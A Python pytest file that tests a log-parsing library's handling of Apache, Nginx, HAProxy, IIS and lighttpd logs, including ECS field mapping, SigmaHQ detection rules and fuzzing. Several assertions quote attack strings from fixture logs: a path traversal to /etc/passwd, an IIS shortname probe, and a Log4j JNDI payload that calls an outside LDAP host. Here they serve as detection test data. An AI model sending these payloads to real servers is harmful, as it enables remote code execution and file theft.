"""Web server logs: Apache/Nginx access logs (text, syslog, HAProxy), Nginx JSON, IIS W3C, Apache/Nginx/lighttpd
error logs. Fields, ECS, logsources, bad records, autodetection, SigmaHQ rules, the shared datasets, fuzzing."""

from __future__ import annotations

import contextlib
import json
import string
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enginekit import fired_rule_ids
from yamori.events import BadRecord, Event, LogSource
from yamori.parsers.access_log import AccessLogParser, AccessSyslogParser, HaproxyParser, clf_time, split_request
from yamori.parsers.base import Envelope, Malformed, ParseContext, Parsed
from yamori.parsers.iis import IisParser
from yamori.parsers.nginx_json import NginxJsonParser
from yamori.parsers.web_error import ErrorSyslogParser, WebErrorParser
from yamori.sources.content import read_bytes
from yamori.sources.files import read_file

FIXTURES = Path(__file__).parent / "fixtures" / "web"
REFERENCE = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
WEBSERVER = LogSource(category=("webserver",))
WEBSERVER_NGINX = LogSource(category=("webserver",), service=("nginx",))
WEBSERVER_APACHE = LogSource(category=("webserver",), service=("apache",))
WEBSERVER_IIS = LogSource(category=("webserver",), service=("iis",))
WEBSERVER_HAPROXY = LogSource(category=("webserver",), service=("haproxy",))
APACHE = LogSource(service=("apache",))
NGINX = LogSource(service=("nginx",))
LIGHTTPD = LogSource(service=("lighttpd",))


def read(name: str) -> list[Event | BadRecord]:
    return list(read_file(FIXTURES / name))


def by_position(items: list[Event | BadRecord]) -> dict[str, Event]:
    return {item.position: item for item in items if isinstance(item, Event)}


def bad(items: list[Event | BadRecord]) -> list[BadRecord]:
    return [item for item in items if isinstance(item, BadRecord)]


def apache_error_items() -> list[Event | BadRecord]:
    """The Apache error fixture (its first line starts with ``[``, which must not be taken for a JSON array)."""
    return read_bytes((FIXTURES / "apache_error.log").read_bytes(), "apache_error.log", REFERENCE)


# ---------------------------------------------------------------------------------------------- access logs


def test_combined_line_fields_ecs_and_sigma_names() -> None:
    events = by_position(read("access_combined.log"))
    event = events["1"]
    assert event.logsource == WEBSERVER
    assert event.source.endswith("access_combined.log")
    assert event.timestamp == "2026-11-28T03:00:00Z"
    fields = event.fields
    # original fields (Nginx variable names)
    assert fields["remote_addr"] == "203.0.113.10"
    assert fields["remote_user"] == "-" and fields["ident"] == "-"
    assert fields["time_local"] == "28/Nov/2026:03:00:00 +0000"
    assert fields["request"] == "GET /index.html HTTP/1.1"
    assert fields["status"] == "200" and fields["body_bytes_sent"] == "5120"
    assert fields["http_referer"] == "https://www.example.com/"
    assert fields["http_user_agent"].startswith("Mozilla/5.0 (Windows NT 10.0")
    # ECS
    assert fields["source.ip"] == "203.0.113.10"
    assert fields["http.request.method"] == "GET"
    assert fields["url.original"] == fields["url.path"] == "/index.html"
    assert fields["http.version"] == "1.1"
    assert fields["http.response.status_code"] == 200
    assert fields["http.response.body.bytes"] == 5120
    assert fields["http.request.referrer"] == "https://www.example.com/"
    assert fields["user_agent.original"] == fields["http_user_agent"]
    assert fields["event.category"] == ["web"] and fields["event.type"] == ["access"]
    assert fields["event.kind"] == "event" and fields["event.outcome"] == "success"
    assert fields["event.module"] == "access_log" and fields["event.dataset"] == "webserver.access"
    assert fields["@timestamp"] == "2026-11-28T03:00:00Z"
    # Sigma webserver names
    assert fields["c-ip"] == "203.0.113.10"
    assert fields["cs-method"] == "GET"
    assert fields["cs-uri-stem"] == fields["cs-uri-query"] == fields["cs-uri"] == "/index.html"
    assert fields["cs-version"] == "HTTP/1.1"
    assert fields["sc-status"] == 200 and fields["sc-bytes"] == 5120
    assert fields["cs-referer"] == "https://www.example.com/"
    assert fields["cs-user-agent"] == fields["http_user_agent"]
    assert "cs-username" not in fields and "user.name" not in fields  # "-" is no user


def test_query_zone_and_failure_outcome() -> None:
    fields = by_position(read("access_combined.log"))["2"].fields
    assert fields["@timestamp"] == "2026-11-28T03:00:01Z"  # +0100 converted to UTC
    assert fields["time_local"] == "28/Nov/2026:04:00:01 +0100"
    assert fields["cs-uri-query"] == fields["url.original"] == "/download.php?file=../../../etc/passwd"
    assert fields["cs-uri-stem"] == fields["url.path"] == "/download.php"
    assert fields["url.query"] == "file=../../../etc/passwd"
    assert fields["event.outcome"] == "failure"
    assert "cs-referer" not in fields and fields["http_referer"] == "-"


def test_common_format_user_and_ipv6() -> None:
    events = by_position(read("access_combined.log"))
    common = events["3"].fields
    assert common["remote_user"] == "alice"
    assert common["user.name"] == common["cs-username"] == "alice"
    assert common["http.request.method"] == "POST" and common["sc-status"] == 201
    assert "http_referer" not in common and "cs-user-agent" not in common
    ipv6 = events["4"].fields
    assert ipv6["source.ip"] == ipv6["c-ip"] == "2001:db8:85a3::8a2e:370:7334"


def test_vhost_forms() -> None:
    events = by_position(read("access_combined.log"))
    with_port = events["6"].fields
    assert with_port["server_name"] == "www.example.com" and with_port["server_port"] == "443"
    assert with_port["cs-host"] == with_port["url.domain"] == "www.example.com"
    assert with_port["destination.port"] == 443
    assert with_port["source.ip"] == "192.0.2.30"
    assert with_port["body_bytes_sent"] == "-" and with_port["sc-bytes"] == 0  # %b "-": no body
    assert with_port["http.version"] == "2.0"
    bare_host = events["7"].fields
    assert bare_host["server_name"] == "shop.example" and bare_host["source.ip"] == "192.0.2.31"
    assert bare_host["http.request.method"] == "HEAD"


def test_extra_trailing_fields() -> None:
    fields = by_position(read("access_combined.log"))["8"].fields
    assert fields["http_x_forwarded_for"] == "10.10.0.5, 172.16.0.9"
    assert fields["network.forwarded_ip"] == "10.10.0.5"
    assert fields["rt"] == "0.012" and fields["uct"] == "0.001" and fields["urt"] == "0.011"
    assert fields["http_user_agent"] == "okhttp/4.12.0"


def test_missing_zone_and_401_with_user_is_an_authentication_failure() -> None:
    event = by_position(read("access_combined.log"))["9"]
    assert event.timestamp == "2026-11-28T03:00:07Z"  # no zone: UTC
    assert event.fields["event.category"] == ["web", "authentication"]
    assert event.fields["event.outcome"] == "failure"
    assert event.fields["user.name"] == "bob"


def test_escaped_quotes_and_hex_bytes() -> None:
    fields = by_position(read("access_combined.log"))["10"].fields
    assert fields["request"] == 'GET /search?q="quoted"&x=\\xff\\x00 HTTP/1.1'
    assert fields["url.query"] == 'q="quoted"&x=\\xff\\x00'
    assert fields["http_user_agent"] == fields["cs-user-agent"] == 'scanner "v2"'


@pytest.mark.parametrize(("position", "request_line"), [
    ("11", "-"),
    ("12", ""),
    ("13", "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03"),
])
def test_junk_requests_are_kept_unsplit(position: str, request_line: str) -> None:
    fields = by_position(read("access_combined.log"))[position].fields
    assert fields["request"] == request_line
    assert "http.request.method" not in fields and "url.original" not in fields and "cs-method" not in fields
    assert fields["sc-status"] >= 400


def test_connect_absolute_uri_and_host_name_client() -> None:
    events = by_position(read("access_combined.log"))
    connect = events["14"].fields
    assert connect["http.request.method"] == "CONNECT" and connect["url.original"] == "example.org:443"
    absolute = events["15"].fields
    assert absolute["source.domain"] == absolute["c-ip"] == "crawler-7.search.example"
    assert "source.ip" not in absolute
    assert absolute["url.scheme"] == "http" and absolute["url.domain"] == "www.example.com"
    assert absolute["url.path"] == absolute["cs-uri-stem"] == "/robots.txt"
    assert absolute["cs-uri-query"] == "http://www.example.com/robots.txt"


def test_invalid_date_keeps_the_event_without_a_time() -> None:
    event = by_position(read("access_combined.log"))["16"]
    assert event.timestamp is None and "@timestamp" not in event.fields
    assert event.fields["time_local"] == "31/Feb/2026:03:00:14 +0000"


def test_access_log_bad_records_have_source_and_position() -> None:
    items = read("access_combined.log")
    records = bad(items)
    assert [record.position for record in records] == ["5", "17"]
    assert all(record.source.endswith("access_combined.log") for record in records)
    assert records[0].data == "this line is not an access log line"
    assert "not an access log line" in records[0].reason
    assert len(items) == 17  # every other line is an event


def test_service_from_the_file_path() -> None:
    line = b'192.0.2.1 - - [28/Nov/2026:03:00:00 +0000] "GET / HTTP/1.1" 200 10 "-" "x"\n'
    for name, logsource, dataset in (("nginx/access.log", WEBSERVER_NGINX, "nginx.access"),
                                      ("apache2-access.log", WEBSERVER_APACHE, "apache.access"),
                                      ("access.log", WEBSERVER, "webserver.access")):
        [event] = read_bytes(line, name)
        assert isinstance(event, Event)
        assert event.logsource == logsource and event.fields["event.dataset"] == dataset


def test_access_syslog_and_haproxy() -> None:
    items = read("access_syslog.log")
    assert not bad(items)
    events = by_position(items)
    nginx = events["1"]
    assert nginx.logsource == WEBSERVER_NGINX
    assert nginx.fields["event.module"] == "access_log_syslog"
    assert nginx.fields["host"] == "web1" and nginx.fields["program"] == "nginx"
    assert nginx.fields["cs-uri-query"] == "/cgi-bin/../../../etc/passwd"
    assert nginx.timestamp == "2026-11-28T03:00:00Z"
    apache = events["2"]
    assert apache.logsource == WEBSERVER_APACHE and apache.fields["user.name"] == "dave"
    haproxy = events["3"]
    assert haproxy.logsource == WEBSERVER_HAPROXY
    fields = haproxy.fields
    assert fields["event.module"] == "haproxy_http" and fields["event.dataset"] == "haproxy.log"
    assert fields["client_ip"] == fields["source.ip"] == "192.168.33.1"
    assert fields["source.port"] == 58444
    assert fields["frontend_name"] == "main" and fields["backend_name"] == "app"
    assert fields["server_name"] == "app1" and fields["termination_state"] == "----"
    assert fields["sc-status"] == fields["http.response.status_code"] == 403
    assert fields["http.response.body.bytes"] == 5168
    assert fields["event.duration"] == 1940 * 1_000_000
    assert fields["cs-method"] == "GET" and fields["cs-uri-stem"] == "/admin"
    assert haproxy.timestamp == "2026-11-28T03:00:02.439000Z"
    ipv6 = events["4"].fields
    assert ipv6["source.ip"] == "2001:db8::1234" and ipv6["source.port"] == 58430
    assert ipv6["captured_request_headers"] == "Mozilla/5.0|shop.example"
    assert ipv6["server_name"] == "<NOSRV>"
    assert events["5"].fields["source.ip"] == "192.168.33.2"  # ::ffff:-mapped IPv4
    assert events["5"].fields["url.query"] == "x=1"
    notice = events["6"]  # not an HTTP log line: the generic syslog event
    assert notice.fields["event.module"] == "syslog"


def test_mixed_web_file_reads_every_kind() -> None:
    items = read("web_mixed.log")
    events = by_position(items)
    assert events["1"].fields["event.module"] == "access_log"
    assert events["3"].fields["event.module"] == "web_error" and events["3"].logsource == NGINX
    assert events["4"].fields["event.module"] == "web_error_syslog" and events["4"].logsource == APACHE
    assert events["4"].fields["user.name"] == "ghost"
    journal = events["5"]  # journal short form: host program[pid]: message
    assert journal.logsource == LIGHTTPD and journal.fields["host"] == "web3"
    assert journal.fields["user.name"] == "user1" and journal.fields["source.ip"] == "192.0.2.124"
    [record] = bad(items)
    assert record.position == "6" and "syslog line that is not a web server message" in record.reason


def test_split_request_and_clf_time() -> None:
    assert split_request("GET /a?b HTTP/1.1") == ("GET", "/a?b", "HTTP/1.1")
    assert split_request("GET /a b HTTP/1.0") == ("GET", "/a b", "HTTP/1.0")
    assert split_request("GET /") == ("GET", "/", None)
    assert split_request("-") is None and split_request("") is None and split_request("batman") is None
    assert split_request("\\x16\\x03 x") is None
    assert clf_time("27/Jun/2013:11:55:44") == "2013-06-27T11:55:44Z"
    assert clf_time("27/Jun/2013:11:55:44 -0230") == "2013-06-27T14:25:44Z"
    assert clf_time("14/Nov/2015:22:45:25.439") == "2015-11-14T22:45:25.439000Z"
    assert clf_time("31/Jan/2015:14:29:44 ") == "2015-01-31T14:29:44Z"
    assert clf_time("32/Jan/2015:14:29:44") is None and clf_time("x") is None


# ----------------------------------------------------------------------------------------------- Nginx JSON


def test_nginx_json() -> None:
    items = read("nginx_access.json")
    events = by_position(items)
    first = events["1"]
    assert first.logsource == WEBSERVER_NGINX
    fields = first.fields
    assert fields["event.module"] == "nginx_json" and fields["event.dataset"] == "nginx.access"
    assert first.timestamp == "2026-11-28T03:00:00Z"
    assert fields["remote_addr"] == fields["source.ip"] == fields["c-ip"] == "198.51.100.50"
    assert "user.name" not in fields and "cs-referer" not in fields  # "" is empty
    assert fields["cs-uri-query"] == "/index.php?page=${jndi:ldap://203.0.113.99/a}"
    assert fields["sc-status"] == 200 and fields["sc-bytes"] == 612
    assert fields["event.duration"] == 4_000_000
    assert fields["cs-host"] == fields["url.domain"] == "shop.example"
    second = events["2"].fields
    assert events["2"].timestamp == "2026-11-28T03:00:01Z"
    assert second["http.request.method"] == "POST" and second["url.original"] == "/api/login?next=/"
    assert second["cs-version"] == "HTTP/2.0" and second["source.port"] == 51234
    assert second["user.name"] == "carol" and second["event.category"] == ["web", "authentication"]
    assert second["network.forwarded_ip"] == "203.0.113.7"
    assert second["http.request.referrer"] == "https://shop.example/login"
    third = events["3"]
    assert third.timestamp == "2026-11-28T03:00:02.250000Z"  # msec
    assert third.fields["url.original"] == "/static/app.js?v=3" and third.fields["url.query"] == "v=3"
    [record] = bad(items)
    assert record.position == "4" and "status is not a number" in record.reason
    other = events["5"]  # a JSON record that is not an access log: not claimed
    assert other.logsource == LogSource() and other.parser == "json"


def test_nginx_json_accepts_only_access_records() -> None:
    parser = NginxJsonParser()
    context = ParseContext("test")
    assert parser.accepts({"remote_addr": "1.2.3.4", "status": "200", "request": "GET / HTTP/1.1"}, context)
    assert parser.accepts({"remote_addr": "1.2.3.4", "status": 200, "request_method": "GET"}, context)
    assert not parser.accepts({"remote_addr": "1.2.3.4", "status": "200"}, context)
    assert not parser.accepts({"status": "200", "request": "GET / HTTP/1.1"}, context)
    assert not parser.accepts({"eventName": "ConsoleLogin", "status": "ok", "request": "x"}, context)


# ------------------------------------------------------------------------------------------------------ IIS


def test_iis_fields_and_sigma_semantics() -> None:
    events = by_position(read("u_ex261128.log"))
    tilde = events["6"]
    assert tilde.logsource == WEBSERVER_IIS
    fields = tilde.fields
    assert fields["event.module"] == "iis" and fields["event.dataset"] == "iis.access"
    assert tilde.timestamp == "2026-11-28T03:00:01Z"
    assert fields["cs-uri-stem"] == fields["cs-uri-query"] == fields["url.original"] == "/*~1*/a.aspx"
    assert "url.query" not in fields and "cs-username" not in fields and "cs(Referer)" not in fields  # "-"
    assert fields["sc-status"] == 200 and fields["sc-substatus"] == 0 and fields["time-taken"] == 15
    assert fields["s-port"] == 443 and fields["destination.port"] == 443
    assert fields["source.ip"] == "203.0.113.70" and fields["destination.ip"] == "10.1.2.3"
    assert fields["cs(User-Agent)"] == "Mozilla/5.0+(compatible;+MSIE+9.0;+Windows+NT+6.1)"
    assert fields["user_agent.original"] == "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)"
    assert fields["cs-user-agent"] == [fields["cs(User-Agent)"], fields["user_agent.original"]]
    assert fields["event.duration"] == 15_000_000
    owa = events["7"].fields
    assert owa["cs-uri-query"] == "/owa/auth.owa?destination=https%3A%2F%2Fmail.example%2Fowa"
    assert owa["url.query"] == "destination=https%3A%2F%2Fmail.example%2Fowa"
    assert owa["cs-referer"] == owa["http.request.referrer"] == "https://mail.example/owa/auth/logon.aspx"
    logon_failed = events["8"].fields
    assert logon_failed["event.category"] == ["web", "authentication"]
    assert logon_failed["event.outcome"] == "failure" and logon_failed["sc-win32-status"] == 1326


def test_iis_fields_change_mid_file() -> None:
    items = read("u_ex261128.log")
    events = by_position(items)
    later = events["14"]
    fields = later.fields
    assert later.timestamp == "2026-11-28T04:00:01.123000Z"
    assert fields["s-sitename"] == "W3SVC1" and fields["host.hostname"] == "WEB01"
    assert fields["cs-username"] == fields["user.name"] == "CORP\\alice"
    assert fields["cs-version"] == "HTTP/1.1" and fields["http.version"] == "1.1"
    assert fields["cs-host"] == fields["url.domain"] == "mail.example"
    assert fields["sc-bytes"] == fields["http.response.bytes"] == 10421 and fields["http.request.bytes"] == 712
    assert fields["cs-uri-query"] == "/ecp/default.aspx?__VIEWSTATEGENERATOR=1&a=2"
    assert events["15"].timestamp is None  # 2026-13-45 is no date; the event stays
    records = bad(items)
    assert [(record.position, record.reason) for record in records] == [
        ("4", "IIS log line before any #Fields: header"), ("9", "7 values for 15 #Fields")]


def test_iis_sniff_needs_a_w3c_web_header() -> None:
    context = ParseContext("test")
    parser = IisParser()
    assert parser.sniff(["#Software: Microsoft Internet Information Services 8.5", "#Version: 1.0"], context)
    assert parser.sniff(["#Version: 1.0", "#Fields: date time cs-method cs-uri-stem sc-status"], context)
    assert not parser.sniff(["#Version: 1.5", "#Software: Microsoft Windows Firewall",
                             "#Fields: date time action protocol src-ip dst-ip"], context)
    assert not parser.sniff(["2026-11-28 03:00:00 GET /"], context)


# ------------------------------------------------------------------------------------------------ error logs


def test_apache_error_log() -> None:
    items = apache_error_items()
    events = {item.position: item for item in items if isinstance(item, Event)}
    assert all(event.logsource == APACHE for event in events.values())
    notice = events["1"].fields
    assert notice["level"] == notice["log.level"] == "notice" and notice["event.type"] == ["info"]
    assert notice["event.module"] == "web_error" and notice["event.dataset"] == "apache.error"
    assert events["1"].timestamp == "2026-11-28T03:00:00Z"
    not_found = events["2"].fields
    assert not_found["event.category"] == ["authentication"] and not_found["event.outcome"] == "failure"
    assert not_found["user.name"] == "admin" and not_found["source.ip"] == "203.0.113.80"
    assert not_found["event.action"] == "user-not-found"
    mismatch = events["3"].fields
    assert mismatch["event.reason"] == "authentication failure" and mismatch["user.name"] == "admin"
    assert mismatch["http.request.referrer"] == "https://www.example.com/login"
    assert mismatch["message"] == 'user admin: authentication failure for "/private/": Password Mismatch'
    digest = events["4"]
    assert digest.timestamp == "2026-11-28T03:00:03.250000Z"
    assert digest.fields["module"] == "auth_digest" and digest.fields["error.code"] == "AH01790"
    assert digest.fields["process.pid"] == 4101 and digest.fields["process.thread.id"] == 140221
    assert digest.fields["source.ip"] == "2001:db8::81" and digest.fields["source.port"] == 46652
    assert digest.fields["user.name"] == "svc"
    info = events["5"].fields
    assert "event.outcome" not in info and info["error.code"] == "AH00128"
    denied = events["6"].fields
    assert denied["event.action"] == "authorization-denied" and denied["event.outcome"] == "failure"
    assert denied["event.category"] == ["web"] and denied["source.ip"] == "192.0.2.83"
    segfault = events["7"].fields
    assert "exit signal Segmentation fault" in segfault["message"]
    records = bad(items)
    assert [record.position for record in records] == ["8"]  # the PHP warning
    assert records[0].data is not None and records[0].data.startswith("PHP Warning")


def test_apache_error_log_starting_with_bracket() -> None:
    items = read("apache_error.log")
    assert sum(1 for item in items if isinstance(item, Event)) == 8
    assert len(bad(items)) == 1


def test_nginx_error_log() -> None:
    items = read("nginx_error.log")
    events = by_position(items)
    assert events["1"].logsource == NGINX and events["1"].fields["event.dataset"] == "nginx.error"
    assert events["1"].fields["pid"] == "1200" and events["1"].fields["process.thread.id"] == 1200
    missing = events["2"].fields
    assert missing["event.category"] == ["authentication"] and missing["user.name"] == "eve"
    assert missing["source.ip"] == "198.51.100.90" and missing["server_name"] == "intranet.example"
    assert missing["http.request.method"] == "GET" and missing["url.original"] == "/admin/"
    assert missing["connection_id"] == "10" and missing["http_host"] == "intranet.example"
    assert missing["message"] == 'user "eve" was not found in "/etc/nginx/.htpasswd"'
    assert events["3"].fields["event.action"] == "password-mismatch"
    assert events["3"].fields["http.request.referrer"] == "https://intranet.example/"
    injected = events["4"].fields  # the user name imitates the context: the real client is the last one
    assert injected["source.ip"] == "198.51.100.91"
    assert injected["event.action"] == "user-not-found"
    assert events["5"].fields["source.ip"] == "2001:db8::92" and "event.outcome" not in events["5"].fields
    assert events["6"].fields["level"] == "alert" and events["6"].fields["event.type"] == ["error"]
    assert events["7"].fields["event.action"] == "authorization-denied"
    assert events["8"].fields["source.ip"] == "198.51.100.94" and events["8"].fields["server_name"] == "0.0.0.0:443"
    journal = events["9"]
    assert journal.fields["event.module"] == "web_error_syslog" and journal.fields["user.name"] == "frank"
    assert journal.timestamp == "2026-11-28T03:00:08Z"
    [record] = bad(items)
    assert record.position == "11" and record.source.endswith("nginx_error.log")


def test_lighttpd_error_log() -> None:
    items = read("lighttpd_error.log")
    events = by_position(items)
    assert events["1"].logsource == LIGHTTPD and events["1"].fields["source_file"] == "server.c.1588"
    assert "event.outcome" not in events["1"].fields
    expected = {"2": ("carol", "192.0.2.100", "password-mismatch"),
                "3": ("carol", "2001:db8::100", "password-mismatch"),
                "4": (None, "192.0.2.101", "user-not-found"),
                "5": ("dan", "192.0.2.102", "password-mismatch")}
    for position, (user, ip, action) in expected.items():
        fields = events[position].fields
        assert fields["event.category"] == ["authentication"] and fields["event.outcome"] == "failure"
        assert fields.get("user.name") == user and fields["source.ip"] == ip and fields["event.action"] == action
    assert events["2"].fields["url.original"] == "/git/"
    assert [record.position for record in bad(items)] == ["6"]


def test_error_syslog_parser_declines_other_messages() -> None:
    parser = ErrorSyslogParser()
    context = ParseContext("test")
    envelope = Envelope(program="kernel")
    assert parser.parse("[  12.345678] eth0: link up", envelope, context) is None
    assert parser.parse("2026/11/28 not nginx", envelope, context) is None
    assert parser.parse("(not lighttpd", envelope, context) is None
    assert parser.parse("[info] cache warmed", Envelope(program="myapp"), context) is None
    apache = parser.parse("[error] [client 192.0.2.9] user x not found: /", Envelope(program="myapp"), context)
    assert apache is not None and apache.fields["user.name"] == "x"
    named = parser.parse("[notice] caught SIGTERM, shutting down", Envelope(program="apache2"), context)
    assert named is not None and named.logsource == APACHE


# ------------------------------------------------------------------------------------------------ detection


@pytest.mark.parametrize(("fixture", "rule_id"), [
    ("access_combined.log", "7745c2ea-24a5-4290-b680-04359cb84b35"),  # Path Traversal Exploitation Attempts
    ("access_combined.log", "5513deaf-f49a-46c2-a6c8-3f111b5cb453"),  # SQL Injection Strings In URI
    ("access_combined.log", "19aa4f58-94ca-45ff-bc34-92e533c0994a"),  # Suspicious User-Agents (recon tools)
    ("access_syslog.log", "7745c2ea-24a5-4290-b680-04359cb84b35"),
    ("nginx_access.json", "5ea8faa8-db8b-45be-89b0-151b84c82702"),  # Log4j RCE CVE-2021-44228 Generic
    ("u_ex261128.log", "7cb02516-6d95-4ffc-8eee-162075e111ac"),  # Successful IIS Shortname Fuzzing Scan
    ("nginx_error.log", "59ec40bb-322e-40ab-808d-84fa690d7e56"),  # Nginx Core Dump
    ("apache_error.log", "1da8ce0b-855d-4004-8860-7d64d42063b1"),  # Apache Segmentation Fault
])
def test_sigmahq_rule_fires(sigmahq_rules: Any, fixture: str, rule_id: str) -> None:
    items = apache_error_items() if fixture == "apache_error.log" else read(fixture)
    assert rule_id in fired_rule_ids(sigmahq_rules, items)


def test_sigmahq_rules_quiet_on_benign_lines(sigmahq_rules: Any) -> None:
    line = (b'203.0.113.10 - - [28/Nov/2026:03:00:00 +0000] "GET /index.html HTTP/1.1" 200 5120 '
            b'"https://www.example.com/" "Mozilla/5.0 (X11; Linux x86_64)"\n')
    assert fired_rule_ids(sigmahq_rules, read_bytes(line, "access.log")) == set()


# ------------------------------------------------------------------------------------------- shared datasets

F2B_WEB_LOGS = ("apache-auth", "apache-badbots", "apache-botsearch", "apache-fakegooglebot", "apache-modsecurity",
                "apache-nohome", "apache-noscript", "apache-overflows", "apache-pass", "apache-shellshock",
                "haproxy-http-auth", "lighttpd-auth", "nginx-bad-request", "nginx-botsearch", "nginx-forbidden",
                "nginx-http-auth", "nginx-limit-req", "php-url-fopen")
F2B_DIR = ("datasets", "fail2ban_fail2ban", "fail2ban", "tests", "files", "logs")


@pytest.mark.parametrize("name", F2B_WEB_LOGS)
def test_fail2ban_web_logs_parse_whole(shared: Path, name: str) -> None:
    path = shared.joinpath(*F2B_DIR, name)
    items = list(read_file(path))
    assert not bad(items), bad(items)[:3]
    text = path.read_bytes().decode("utf-8", "backslashreplace")
    data_lines = [line for line in text.splitlines() if line.strip() and not line.startswith("#")]
    assert len(items) == len(data_lines)
    modules = {item.fields["event.module"] for item in items if isinstance(item, Event)}
    assert modules <= {"access_log", "access_log_syslog", "haproxy_http", "web_error", "web_error_syslog"}


@pytest.mark.parametrize("name", ["apache-auth", "nginx-http-auth", "lighttpd-auth"])
def test_fail2ban_auth_failures_name_the_labelled_client(shared: Path, name: str) -> None:
    """Every event classified as an authentication failure is labelled an attack by fail2ban (``# failJSON``),
    with the same client address; lines labelled harmless are never authentication failures."""
    path = shared.joinpath(*F2B_DIR, name)
    labels: dict[int, dict[str, Any]] = {}
    for number, line in enumerate(path.read_text(encoding="utf-8", errors="replace").splitlines(), 1):
        if line.startswith("# failJSON:"):
            labels[number + 1] = json.loads(line.split(":", 1)[1])
    failures = 0
    for item in read_file(path):
        assert isinstance(item, Event)
        label = labels[int(item.position)]
        if "authentication" in item.fields.get("event.category", []):
            failures += 1
            assert label["match"] is True, item.raw
            assert item.fields["source.ip"] == label["host"].removeprefix("::ffff:"), item.raw
        if label["match"] is False:
            assert item.fields.get("event.outcome") != "failure" or "authentication" not in item.fields.get(
                "event.category", [])
    assert failures >= 8


def test_elastic_apache_log(shared: Path) -> None:
    path = shared / "datasets" / "elastic_examples" / "Common Data Formats" / "apache_logs" / "apache_logs"
    items = list(read_file(path))
    assert len(items) == 10_000 and not bad(items)
    events = [item for item in items if isinstance(item, Event)]
    assert all(event.logsource == WEBSERVER_APACHE and event.timestamp for event in events)
    assert all("sc-status" in event.fields and "source.ip" in event.fields for event in events)


# ----------------------------------------------------------------------------------------------------- fuzz

FIXTURE_LINES = [line for name in ("access_combined.log", "access_syslog.log", "apache_error.log", "nginx_error.log",
                                   "lighttpd_error.log", "web_mixed.log", "u_ex261128.log")
                 for line in (FIXTURES / name).read_text(encoding="utf-8").splitlines() if line]
LINE_ALPHABET = string.printable + "[]\"\\#/:-é\x00\x1b"
FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@st.composite
def mutated_line(draw: st.DrawFn) -> str:
    line = draw(st.sampled_from(FIXTURE_LINES))
    for _ in range(draw(st.integers(0, 4))):
        position = draw(st.integers(0, len(line)))
        action = draw(st.sampled_from(("insert", "delete", "replace", "cut")))
        piece = draw(st.text(LINE_ALPHABET, min_size=1, max_size=6))
        if action == "insert":
            line = line[:position] + piece + line[position:]
        elif action == "delete":
            line = line[:position] + line[position + len(piece):]
        elif action == "replace":
            line = line[:position] + piece + line[position + len(piece):]
        else:
            line = line[:position]
    return line.replace("\n", " ").replace("\r", " ")


LINES = st.one_of(mutated_line(), st.text(LINE_ALPHABET, max_size=120).map(lambda s: s.replace("\n", " ")))


def _check_items(items: list[Any]) -> None:
    for item in items:
        assert isinstance(item, (Parsed, Event, BadRecord))
        if isinstance(item, (Parsed, Event)):
            assert item.timestamp is None or item.timestamp.endswith("Z")


@FUZZ
@given(st.lists(LINES, min_size=1, max_size=8))
def test_fuzz_text_parsers_directly(lines: list[str]) -> None:
    context = ParseContext("fuzz", "fuzz.log", REFERENCE)
    numbered = list(enumerate(lines, 1))
    for parser in (AccessLogParser(), WebErrorParser(), IisParser()):
        parser.sniff(lines, context)
        _check_items(list(parser.parse(iter(numbered), context)))
    header = [(0, "#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)")]
    _check_items(list(IisParser().parse(iter(header + numbered), context)))


@FUZZ
@given(LINES)
def test_fuzz_message_parsers(message: str) -> None:
    context = ParseContext("fuzz", "fuzz.log", REFERENCE)
    for program in ("nginx", "haproxy", "httpd", "lighttpd", None):
        envelope = Envelope(program=program, line=message)
        for parser in (AccessSyslogParser(), HaproxyParser(), ErrorSyslogParser()):
            try:
                result = parser.parse(message, envelope, context)
            except Malformed:
                continue
            assert result is None or isinstance(result, Parsed)


@FUZZ
@given(st.lists(LINES, min_size=1, max_size=6), st.sampled_from(["access.log", "error.log", "u_ex1.log", "x"]))
def test_fuzz_through_the_reader(lines: list[str], name: str) -> None:
    data = ("\n".join(lines) + "\n").encode("utf-8", "surrogatepass")
    items = read_bytes(data, name, REFERENCE)
    assert all(isinstance(item, (Event, BadRecord)) for item in items)


JSON_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(-10, 10**20), st.floats(allow_nan=True),
                         st.text(LINE_ALPHABET, max_size=30))
JSON_VALUES = st.recursive(JSON_SCALARS, lambda children: st.one_of(
    st.lists(children, max_size=3), st.dictionaries(st.text(max_size=8), children, max_size=3)), max_leaves=8)
NGINX_KEYS = st.sampled_from(["remote_addr", "status", "request", "request_method", "request_uri", "uri", "args",
                              "time_local", "time_iso8601", "msec", "time", "body_bytes_sent", "remote_user",
                              "http_referer", "http_user_agent", "http_x_forwarded_for", "host", "remote_port",
                              "request_time", "server_protocol"])


@FUZZ
@given(st.dictionaries(NGINX_KEYS, JSON_VALUES, min_size=1, max_size=12))
def test_fuzz_nginx_json(record: dict[str, Any]) -> None:
    record.setdefault("remote_addr", "192.0.2.1")
    record.setdefault("status", "200")
    record.setdefault("request", "GET / HTTP/1.1")
    parser = NginxJsonParser()
    context = ParseContext("fuzz")
    assert parser.accepts(record, context)
    with contextlib.suppress(Malformed):
        _check_items(list(parser.parse(dict(record), context)))
    data = json.dumps(record, default=str).encode()
    assert all(isinstance(item, (Event, BadRecord)) for item in read_bytes(data + b"\n", "access.json"))
